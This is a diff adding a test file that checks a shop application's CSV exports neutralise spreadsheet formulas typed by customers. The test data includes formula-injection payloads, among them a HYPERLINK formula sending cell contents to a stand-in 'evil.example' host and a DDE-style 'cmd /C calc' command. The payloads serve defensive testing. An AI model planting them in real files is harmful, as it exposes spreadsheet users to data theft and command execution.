@@ -1,0 +1,102 @@
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import type { z } from 'zod';
+import { contracts } from './support/contracts.ts';
+import {
+  givenOfficeShop,
+  moneyWithoutOrder,
+  type OfficeShop,
+  openOfficeShop,
+  paid,
+  planWithCard,
+  refundAsked,
+} from './support/situations.ts';
+
+/* What customers typed is never a formula in a file that staff open with a spreadsheet. */
+
+let shop: OfficeShop;
+
+beforeAll(async () => {
+  shop = await givenOfficeShop(await openOfficeShop());
+  const order = await paid(shop);
+  await refundAsked(shop, order);
+  await planWithCard(shop);
+  await moneyWithoutOrder(shop, 1_234);
+  await shop.app.settle();
+  // Only for this: the buyers of documents are customers too.
+  await shop.app.db.run('alter table invoices disable trigger invoices_are_final');
+});
+afterAll(() => shop.app.close());
+
+/** Everything that a list may be asked for. */
+const FILTERS: Readonly<Record<string, object>> = {
+  'orders-export': {},
+  'tickets-export': {},
+  'people-export': {},
+  'receipts-export': {},
+  'refunds-export': { view: 'all' },
+  'plans-export': { view: 'all' },
+  'invoices-export': {},
+};
+
+const answersWithCsv = contracts
+  .filter(({ answer }) => 'csv' in ((answer as z.ZodObject).shape ?? {}))
+  .map(({ name }) => name);
+
+test('every call that answers with a spreadsheet is tried', () => {
+  expect(Object.keys(FILTERS).toSorted()).toEqual(answersWithCsv.toSorted());
+});
+
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example?"&A1,"Open")',
+  '+31-6-1234',
+  '-2+3+cmd|" /C calc"!A0',
+  '@SUM(A1:A9)',
+  '|calc',
+  '%0A=1',
+  '＝1+1',
+  ' =1+1',
+  '\t=1+1',
+  'Mila","=1+1","x',
+  'Mila\r\n=1+1',
+];
+
+/** Names, addresses and words as if customers and payers had typed them. */
+async function typed(text: string): Promise<void> {
+  const columns = await shop.app.db.rows<{ table: string; column: string }>(
+    `select table_name as table, column_name as column from information_schema.columns
+     where table_schema = 'public' and data_type = 'text' and (table_name, column_name) in (
+       ('orders', 'customer_name'), ('orders', 'customer_email'), ('customers', 'full_name'), ('customers', 'email'),
+       ('tickets', 'full_name'), ('tickets', 'email'), ('receipts', 'said'), ('refunds', 'note'), ('refunds', 'reason'))`,
+  );
+  expect(columns).toHaveLength(9);
+  for (const { table, column } of columns) await shop.app.db.run(`update "${table}" set "${column}" = $1`, [text]);
+  await shop.app.db.run(`update invoices set content = jsonb_set(content, '{buyer,lines,0}', to_jsonb($1::text))`, [
+    text,
+  ]);
+}
+
+/** The cells of a CSV, read by RFC 4180 and independently of the code that writes it. */
+const cellsOf = (csv: string): string[] =>
+  [...csv.replace(/^\uFEFF/, '').matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(([, cell]) =>
+    cell!.replaceAll('""', '"'),
+  );
+
+test.each(FORMULAS)('%j is text in every export', async (formula) => {
+  await typed(formula);
+  const words = formula.replace(/^[^\p{L}\p{N}]*/u, '').replace(/\s+/g, ' ');
+  for (const [name, filter] of Object.entries(FILTERS)) {
+    const { csv, rows } = await shop.owner.browser.done(name, { filter });
+    expect([name, rows > 0]).toEqual([name, true]);
+    const cells = cellsOf(csv);
+    expect([name, cells.length % (rows + 1)]).toEqual([name, 0]);
+    // It is there, in one cell.
+    expect(
+      cells.some((cell) => cell.endsWith(words)),
+      name,
+    ).toBe(true);
+    for (const cell of cells) {
+      expect(cell, name).not.toMatch(/[\r\n\t]/);
+      if (!/^-\d+(\.\d+)?$/.test(cell)) expect(cell, name).not.toMatch(/^\s*[=+\-@|%＝＋－＠]/u);
+    }
+  }
+});
